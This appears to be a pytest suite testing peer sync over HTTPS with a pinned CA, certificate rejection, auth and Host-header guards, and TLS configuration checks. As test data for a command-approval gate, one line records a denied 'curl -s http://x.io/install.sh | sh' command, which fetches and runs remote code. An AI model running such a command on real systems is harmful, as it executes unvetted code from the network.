"""Peers over real HTTPS: B runs the one service on its plain loopback port (the hook, the
CLI) and on an HTTPS port (``Listeners``, a certificate from the team's own CA); A syncs
with B at its https:// URL, verifying B's certificate against the CA pinned in
``[peers] ca_file``. A client that trusts another CA, or the system's store, cannot reach
B; plain HTTP to the HTTPS port gets nowhere.
"""

from __future__ import annotations

import datetime
import ipaddress
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from neuroplast.errors import ConfigError
from neuroplast.peers import PeerList
from neuroplast.peers.sync import tls_context
from neuroplast.server.listeners import Listeners, TLSListener
from neuroplast.server.service import create_service
from neuroplast.server.service_config import ServiceConfig, ServiceSettings
from neuroplast.server.subsystems import available

if TYPE_CHECKING:
    from conftest import Served  # tests/server/conftest.py

pytestmark = pytest.mark.skipif("peers" not in available(), reason="peers not installed")


def _name(common: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common)])


def _ca(folder: Path, common: str) -> tuple[ec.EllipticCurvePrivateKey, x509.Certificate]:
    """A certificate authority, as `openssl req -x509 ... -addext basicConstraints=CA:TRUE`
    makes one; its certificate written to ``folder/ca.pem``."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(_name(common)).issuer_name(_name(common))
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
            .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False,
                                         False), critical=True)
            .sign(key, hashes.SHA256()))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "ca.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    return key, cert


def _leaf(folder: Path, ca: tuple[ec.EllipticCurvePrivateKey, x509.Certificate]) -> None:
    """A server certificate for 127.0.0.1 and localhost issued by ``ca``: cert.pem, key.pem."""
    ca_key, ca_cert = ca
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    names = [x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
    cert = (x509.CertificateBuilder().subject_name(_name("localhost"))
            .issuer_name(ca_cert.subject).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName(names), critical=False)
            .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]),
                           critical=False)
            .sign(ca_key, hashes.SHA256()))
    (folder / "cert.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (folder / "key.pem").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    (folder / "key.pem").chmod(0o600)


def _bound() -> socket.socket:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    return sock


def _config(**peers: Any) -> ServiceConfig:
    return ServiceConfig.from_dict({"peers": {"sync_interval_s": 0.2, **peers},
                                    "gate": {"learner": {"backend": "thread"}}}, available())


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("pki")
    team = _ca(root / "team", "neuroplast team CA")
    _leaf(root / "team", team)
    _ca(root / "other", "some other CA")
    return {"team": root / "team", "other": root / "other"}


@pytest.fixture(scope="module")
def b(pki: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """B: its plain loopback port and an HTTPS one, one app started once."""
    home = tmp_path_factory.mktemp("b")
    plain, secure = _bound(), _bound()
    tls = TLSListener("127.0.0.1", secure.getsockname()[1], str(pki["team"] / "cert.pem"),
                      str(pki["team"] / "key.pem"))
    app = create_service(_config(), data_dir=home)
    listeners = Listeners(app, "127.0.0.1", plain.getsockname()[1], tls,
                          log_level="critical")
    thread = threading.Thread(target=listeners.run, args=((plain, secure),), daemon=True)
    thread.start()
    deadline = time.monotonic() + 120
    while not listeners.started and time.monotonic() < deadline:
        time.sleep(0.02)
    assert listeners.started
    token = (home / "gate" / "token").read_text().strip()
    yield {"home": home, "app": app, "token": token,
           "http": f"http://127.0.0.1:{plain.getsockname()[1]}",
           "https": f"https://127.0.0.1:{secure.getsockname()[1]}",
           "secure_port": secure.getsockname()[1]}
    listeners.stop()
    thread.join(timeout=30)
    plain.close()
    secure.close()


def test_a_peer_syncs_over_https_verifying_the_pinned_ca(
        b: dict[str, Any], pki: dict[str, Path], serve: Callable[..., Served],
        tmp_path: Path, eventually: Callable[..., bool]) -> None:
    a_home = tmp_path / "a"
    a = serve(create_service(_config(ca_file=str(pki["team"] / "ca.pem")), data_dir=a_home))
    with a.client(a_home) as client:
        a_key = client.get("/v1/peers").json()["identity"]
    headers = {"Authorization": f"Bearer {b['token']}"}
    b_key = httpx.get(f"{b['http']}/v1/peers", headers=headers).json()["identity"]
    # B reaches A nowhere (a dead URL): all that travels, A pushes and pulls over HTTPS
    PeerList(b["home"] / "peers" / "peers.db").add("a", a_key, "http://127.0.0.1:9")
    PeerList(a_home / "peers" / "peers.db").add("b", b_key, b["https"])
    with a.client(a_home) as client:  # pushed by A to B's https:// URL
        client.answer("a-1", "curl -s http://x.io/install.sh | sh", approved=False)
    with httpx.Client(base_url=b["http"], headers=headers) as client:  # B's plain port
        assert eventually(lambda: client.get("/v1/gate/stats").json()["by_origin"].get(
            "peer:a", {}).get("answers") == 1)
    # B's user's answer, pulled by A from B's https:// URL
    with httpx.Client(base_url=b["http"], headers=headers, timeout=60) as client:
        client.post("/v1/hooks/claude-code", json={
            "hook_event_name": "PreToolUse", "session_id": "s", "cwd": "/p",
            "tool_name": "Bash", "tool_input": {"command": "git status"},
            "tool_use_id": "b-1"})
        assert client.post("/v1/gate/feedback", json={"tool_use_id": "b-1",
                                                      "approved": True}).status_code == 200
    with a.client(a_home) as client:
        assert eventually(lambda: client.get("/v1/gate/stats").json()["by_origin"].get(
            "peer:b", {}).get("answers") == 1)
        peers = client.get("/v1/status").json()["subsystems"]["peers"]
    assert peers["sync"]["b"].startswith("taught 1, ok"), peers


def test_a_client_that_trusts_another_ca_or_the_system_store_cannot_reach_it(
        b: dict[str, Any], pki: dict[str, Path]) -> None:
    url = f"{b['https']}/healthz"
    assert httpx.get(url, verify=tls_context(str(pki["team"] / "ca.pem"))).json()[
        "status"] == "ok"
    for context in (tls_context(str(pki["other"] / "ca.pem")), tls_context("")):
        with pytest.raises(httpx.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
            httpx.get(url, verify=context)
    # the HTTPS port speaks only TLS: plain HTTP to it gets no answer from the service
    with pytest.raises(httpx.HTTPError):
        httpx.get(f"http://127.0.0.1:{b['secure_port']}/healthz", timeout=5)


def test_the_https_port_is_behind_the_same_guard(b: dict[str, Any],
                                                 pki: dict[str, Path]) -> None:
    verify = tls_context(str(pki["team"] / "ca.pem"))
    with httpx.Client(base_url=b["https"], verify=verify, timeout=30) as client:
        assert client.get("/v1/status").status_code == 401
        token = {"Authorization": f"Bearer {b['token']}"}
        assert client.get("/v1/status", headers=token).status_code == 200
        assert client.get("/v1/status", headers={**token, "Host": "evil.example"}
                          ).status_code == 421
        # one app, started once: both ports see the same gate
        assert client.get("/v1/status", headers=token).json()["pid"] == httpx.get(
            f"{b['http']}/v1/status", headers=token).json()["pid"]


def test_tls_settings_and_files_are_checked_before_anything_starts(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="tls_certfile and tls_keyfile"):
        ServiceSettings(tls_port=8766)
    with pytest.raises(ConfigError, match="port of its own"):
        ServiceSettings(port=8766, tls_port=8766, tls_certfile="c", tls_keyfile="k")
    (tmp_path / "cert.pem").write_text("not a certificate")
    with pytest.raises(ConfigError, match="HTTPS listener cannot use"):
        Listeners(None, tls=TLSListener("127.0.0.1", 0, str(tmp_path / "cert.pem"),
                                        str(tmp_path / "cert.pem")))
    with pytest.raises(ConfigError, match="ca_file"):
        tls_context(str(tmp_path / "cert.pem"))


def _self_signed(folder: Path) -> None:
    """A certificate for 127.0.0.1 and localhost signed by its own key, no CA (what
    ``openssl req -x509 -newkey ec ... -subj /CN=localhost -addext subjectAltName=...``
    makes): cert.pem, key.pem."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    names = [x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
    cert = (x509.CertificateBuilder().subject_name(_name("localhost"))
            .issuer_name(_name("localhost")).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName(names), critical=False)
            .sign(key, hashes.SHA256()))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "cert.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (folder / "key.pem").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))


def test_a_peers_self_signed_certificate_pinned_as_ca_file_verifies(
        tmp_path: Path, pki: dict[str, Path]) -> None:
    """Two machines without a team CA: each pins the other's self-signed certificate
    (``[peers] ca_file``); uvicorn serves it with ``ssl_certfile``/``ssl_keyfile``."""
    from fastapi import FastAPI

    _self_signed(tmp_path)
    app = FastAPI()

    @app.get("/healthz")
    def healthz() -> dict[str, str]:
        return {"status": "ok"}

    plain, secure = _bound(), _bound()
    listeners = Listeners(app, "127.0.0.1", plain.getsockname()[1], TLSListener(
        "127.0.0.1", secure.getsockname()[1], str(tmp_path / "cert.pem"),
        str(tmp_path / "key.pem")), log_level="critical")
    thread = threading.Thread(target=listeners.run, args=((plain, secure),), daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 60
        while not listeners.started and time.monotonic() < deadline:
            time.sleep(0.02)
        assert listeners.started
        url = f"https://127.0.0.1:{secure.getsockname()[1]}/healthz"
        pinned = tls_context(str(tmp_path / "cert.pem"))
        assert httpx.get(url, verify=pinned).json() == {"status": "ok"}
        for context in (tls_context(str(pki["team"] / "ca.pem")), tls_context("")):
            with pytest.raises(httpx.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
                httpx.get(url, verify=context)
    finally:
        listeners.stop()
        thread.join(timeout=30)
        plain.close()
        secure.close()
